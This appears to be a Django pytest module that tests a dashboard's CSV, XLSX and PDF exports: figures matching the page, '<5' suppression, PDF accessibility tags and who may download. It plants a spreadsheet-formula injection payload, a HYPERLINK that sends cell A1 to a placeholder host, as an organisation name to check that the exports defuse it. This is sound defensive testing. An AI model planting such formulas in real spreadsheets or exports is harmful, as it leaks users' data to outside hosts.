"""The dashboard's exports: CSV, XLSX and the printed report show exactly the cells the page
shows ("<5" where the page has "<5", never a hidden figure), to the same people; spreadsheet
formulas in names are defused; the PDF is tagged with its title and language."""

import csv
import html
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from django.core.cache import cache
from django.template.loader import render_to_string
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format
from openpyxl import load_workbook
from pypdf import PdfReader

from casemanagement.models import Verwijzing
from ivh.termijnen.sync import termijnen_sync
from monitor.dashboard import Dashboard, dashboard
from monitor.exports import all_tables, rapport_context, sheet_names
from monitor.figures import Period
from monitor.models import Release
from monitor.permissions import monitor_scopes
from monitor.readmodel import refresh_full
from monitor.tables import Table
from tests.monitor.test_figures import YEAR, data  # noqa: F401 (the data set fixture)
from tests.netwerk.factories import OrganisatieFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("data")]
PAGE = reverse("monitor:overzicht")
CSV, XLSX, PDF = reverse("monitor:csv"), reverse("monitor:xlsx"), reverse("monitor:pdf")
H1 = {"soort": "halfjaar", "jaar": YEAR, "helft": 1}
HYPERLINK = '=HYPERLINK("https://example.invalid/?x="&A1,"Klik")'
SCREENSHOTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "screenshots"


@pytest.fixture(autouse=True)
def fresh_cache():
    """The protected cube is cached under the number of the last refresh; a test database
    made anew numbers its refreshes from 1 again, so a cube of an earlier run could be read."""
    cache.clear()


@pytest.fixture
def hyperlink(personas, data):  # noqa: F811 (the fixture, imported above)
    """A provider of the sociale kaart whose name is a spreadsheet formula, with a referral
    that started in the first half-year, so the provider table names it."""
    organisatie = OrganisatieFactory(name=HYPERLINK, regions=[personas.region])
    traject, verwijzing = data["trajecten"][0]
    Verwijzing.objects.create(
        traject=traject,
        organisatie=organisatie,
        referred_at=verwijzing.referred_at,
        started_at=verwijzing.started_at,
        created_by=personas.casemanager,
    )
    termijnen_sync()
    refresh_full()
    return organisatie


def page_cells(client, **params) -> list[str]:
    """Every figure the page prints, in the page's order."""
    response = client.get(PAGE, params)
    assert response.status_code == 200
    cells = re.findall(r'<td class="text-end[^"]*"[^>]*>([^<]*)</td>', response.content.decode())
    return [html.unescape(c) for c in cells]


def the_dashboard(user) -> Dashboard:
    """The first half-year's dashboard as the page builds it for `user`."""
    scope = monitor_scopes(user)[0]
    return dashboard(scope, Period(YEAR, 1, 2))


def csv_blocks(content: bytes) -> tuple[list[str], list[list[list[str]]]]:
    """The first line, and per table block its lines."""
    assert content.startswith(b"\xef\xbb\xbf"), "a byte order mark for Excel"
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    blocks: list[list[list[str]]] = [[]]
    for line in lines[2:]:
        if line:
            blocks[-1].append(line)
        elif blocks[-1]:
            blocks.append([])
    return lines[0], [b for b in blocks if b]


def pdf_text(content: bytes) -> str:
    return " ".join(
        " ".join((page.extract_text() or "").split())
        for page in PdfReader(io.BytesIO(content)).pages
    )


# --- CSV ---------------------------------------------------------------------------------------


def test_the_csv_holds_every_table_exactly_as_the_page_prints_it(personas, login):
    client = login(personas.coordinator)
    response = client.get(CSV, H1)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="monitor-haaglanden-2025-K1-K2.csv"' in response["Content-Disposition"]
    first, blocks = csv_blocks(response.content)
    dash = the_dashboard(personas.coordinator)
    assert first[0] == dash.title and first[1] == "1e helft 2025"
    assert first[2] == "voorlopig" and first[3].startswith("bijgewerkt op ")
    tables = all_tables(dash)
    assert len(blocks) == len(tables)
    figures = []
    for table, block in zip(tables, blocks, strict=True):
        assert block[0] == [table.title]
        assert block[1] == ["Cijfer", *(c.label for c in table.columns)]
        body = block[2 : 2 + len(table.rows)]
        assert [line[1:] for line in body] == table.values()
        assert [line[0] for line in body][0].startswith(table.rows[0][0].label)
        assert [line[0] for line in block[2 + len(table.rows) :]] == [
            t for t in (table.note, *table.footnotes) if t
        ]
        figures += [cell for line in body for cell in line[1:]]
    # The very cells of the page, "<5" and "*" included: nothing more, nothing less.
    assert figures == page_cells(client, **H1)
    assert "<5" in figures and any(f.endswith("*") for f in figures)


def test_a_published_half_year_is_exported_as_published_without_provisional_marks(personas, login):
    client = login(personas.coordinator)
    response = client.post(
        reverse("monitor:publiceren", args=[personas.region.pk]),
        {"periode": Period(YEAR, 1, 2).key},
    )
    assert response.status_code == 302
    release = Release.objects.get()
    first, blocks = csv_blocks(client.get(CSV, H1).content)
    published = date_format(timezone.localtime(release.published_at), "j F Y")
    assert first[2] == f"gepubliceerd op {published}"
    figures = [cell for block in blocks for line in block[2:] for cell in line[1:]]
    assert not any(f.endswith("*") for f in figures)
    assert "<5" in figures


def test_the_csv_defuses_a_formula_in_an_organisations_name(personas, login, hyperlink):
    response = login(personas.coordinator).get(CSV, H1)
    _first, blocks = csv_blocks(response.content)
    cells = [cell for block in blocks for line in block for cell in line]
    named = [c for c in cells if "HYPERLINK" in c]
    assert named and all(c.startswith("'=HYPERLINK(") for c in named)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


# --- XLSX --------------------------------------------------------------------------------------


def test_the_xlsx_has_a_sheet_per_table_with_numbers_and_the_pages_symbols(personas, login):
    client = login(personas.coordinator)
    response = client.get(XLSX, H1)
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.content))
    dash = the_dashboard(personas.coordinator)
    assert workbook.properties.title == dash.title
    assert workbook.properties.language == "nl"
    tables = all_tables(dash)
    sheets = workbook.worksheets[1:]
    assert [s.title for s in sheets] == sheet_names(tables)
    assert all(len(s.title) <= 31 for s in sheets)
    assert len({s.title.casefold() for s in sheets}) == len(sheets)
    figures = []
    numbers = 0
    for table, sheet in zip(tables, sheets, strict=True):
        rows = list(sheet.iter_rows(min_row=4, values_only=False))
        header, body = rows[0], rows[1 : 1 + len(table.rows)]
        assert [c.value for c in header] == ["Cijfer", *(c.label for c in table.columns)]
        assert all(c.font.bold for c in header)
        for (_row, shown), cells in zip(table.rows, body, strict=True):
            for s, cell in zip(shown, cells[1:], strict=True):
                if s.value is None:
                    # Hidden: the symbol, as text, and no number anywhere.
                    assert cell.data_type == "s" and cell.value == s.text
                else:
                    # A number, rounded as the page prints it: no more precise than the page.
                    assert isinstance(cell.value, int | float)
                    assert cell.value == round(s.value, 1 if s.soort == "mean" else 0)
                    numbers += 1
                figures.append(s.text if s.value is None else _formatted(cell))
        notes = [r[0].value for r in rows[2 + len(table.rows) :] if r[0].value]
        assert notes == [t for t in (table.note, *table.footnotes) if t]
    assert numbers > 0
    assert figures == page_cells(client, **H1)
    # Titles that Excel would refuse as sheet names: too long, the same twice, odd characters.
    long = "Wachttijd tot de start van vervolghulp"
    assert sheet_names(
        [Table("a", long, [], []), Table("b", long, [], []), Table("c", "[MDO's]: a/b?", [], [])]
    ) == [
        "Wachttijd tot de start van verv",
        "Wachttijd tot de start van (2)",
        "MDO's a b",
    ]


def _formatted(cell) -> str:
    """A numeric cell as its number format shows it (the formats the export writes)."""
    fmt = cell.number_format
    decimals = 1 if fmt.startswith("0.0") else 0
    text = f"{cell.value:.{decimals}f}".replace(".", ",")
    return text + "".join(re.findall(r'"([^"]*)"', fmt))


def test_the_xlsx_defuses_a_formula_in_an_organisations_name(personas, login, hyperlink):
    response = login(personas.coordinator).get(XLSX, H1)
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert named and all(c.value.startswith("'=HYPERLINK(") for c in named)
    assert not any(c.data_type == "f" for c in cells), "no formula in the workbook"


# --- PDF ---------------------------------------------------------------------------------------


def test_the_report_prints_the_pages_cells_with_charts_norms_and_symbols(personas, login):
    client = login(personas.coordinator)
    dash = the_dashboard(personas.coordinator)
    # The HTML that becomes the PDF: the same cells as the page, in the same order.
    rapport = render_to_string("monitor/rapport.html", rapport_context(dash))
    cells = [html.unescape(c) for c in re.findall(r'<td class="num[^"]*">([^<]*)</td>', rapport)]
    assert cells == page_cells(client, **H1)
    assert rapport.count("<svg") == sum(1 for t in all_tables(dash) if t.chart)

    response = client.get(PDF, H1)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    assert dash.title in text and "voorlopig" in text.lower()
    for label, value in dash.norms:
        assert f"{label[:1].upper()}{label[1:]} {value}" in text
    assert "<5: minder dan 5 kinderen" in text
    for table in all_tables(dash):
        assert table.title in text
        for row, values in zip(table.rows, table.values(), strict=True):
            label = f"{row[0].label} ({row[0].unit})" if row[0].unit else row[0].label
            assert f"{label} {' '.join(values)}" in text, (table.slug, label)
    _screenshots(response.content, "monitor-rapport-regio")


def test_the_report_is_a_tagged_pdf_with_title_and_language(personas, login):
    response = login(personas.gemeente_official).get(PDF, H1)
    reader = PdfReader(io.BytesIO(response.content))
    root = reader.trailer["/Root"]
    assert "/StructTreeRoot" in root
    assert root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "nl"
    dash = the_dashboard(personas.gemeente_official)
    assert reader.metadata.title == dash.title
    _screenshots(response.content, "monitor-rapport-gemeente")


def _screenshots(pdf: bytes, name: str) -> None:
    """The report's pages as PNG, to look at (test-artifacts/screenshots/)."""
    pdftoppm = shutil.which("pdftoppm")
    if pdftoppm is None:
        return
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    path = SCREENSHOTS / f"{name}.pdf"
    path.write_bytes(pdf)
    for old in SCREENSHOTS.glob(f"{name}-*.png"):
        old.unlink()
    subprocess.run(  # noqa: S603 (a fixed program on a file the test wrote)
        [pdftoppm, "-png", "-r", "60", str(path), str(SCREENSHOTS / name)], check=True
    )


# --- who may download ----------------------------------------------------------------------


def test_a_gemeente_officials_exports_hold_only_their_gemeente_and_the_region(
    personas,
    login,
    data,  # noqa: F811 (the fixture, imported above)
):
    client = login(personas.gemeente_official)
    for url in (CSV, XLSX, PDF):
        response = client.get(url, H1)
        assert response.status_code == 200, url
        if url == CSV:
            text = response.content.decode("utf-8-sig")
        elif url == XLSX:
            workbook = load_workbook(io.BytesIO(response.content))
            text = " ".join(
                str(c.value) for s in workbook.worksheets for row in s.iter_rows() for c in row
            )
        else:
            text = pdf_text(response.content)
        assert personas.gemeente.name in text and "regio Haaglanden" in text, url
        assert data["delft"].name not in text and "gemeente onbekend" not in text, url
        assert "<5" in text, url


def test_others_cannot_download_the_figures(personas, login):
    for persona in ("casemanager", "expert", "beheerder", "outsider_casemanager"):
        client = login(getattr(personas, persona))
        for url in (CSV, XLSX, PDF):
            assert client.get(url, H1).status_code == 403, (persona, url)


def test_anonymous_visitors_are_sent_to_the_login_page(client):
    for url in (CSV, XLSX, PDF):
        response = client.get(url, H1)
        assert response.status_code == 302, url
        assert reverse("accounts:login") in response["Location"]


def test_a_coordinator_of_another_region_downloads_only_their_own_region(personas, login):
    response = login(personas.outsider_coordinator).get(
        CSV, {"scope": f"regio-{personas.region.pk}", **H1}
    )
    text = response.content.decode("utf-8-sig")
    assert "Zeeland" in text and "Haaglanden" not in text


def test_the_page_links_to_the_three_downloads_with_its_own_query(personas, login):
    response = login(personas.coordinator).get(PAGE, H1)
    content = response.content.decode()
    for url in (CSV, XLSX, PDF):
        assert f'href="{url}?soort=halfjaar&amp;jaar={YEAR}&amp;helft=1"' in content
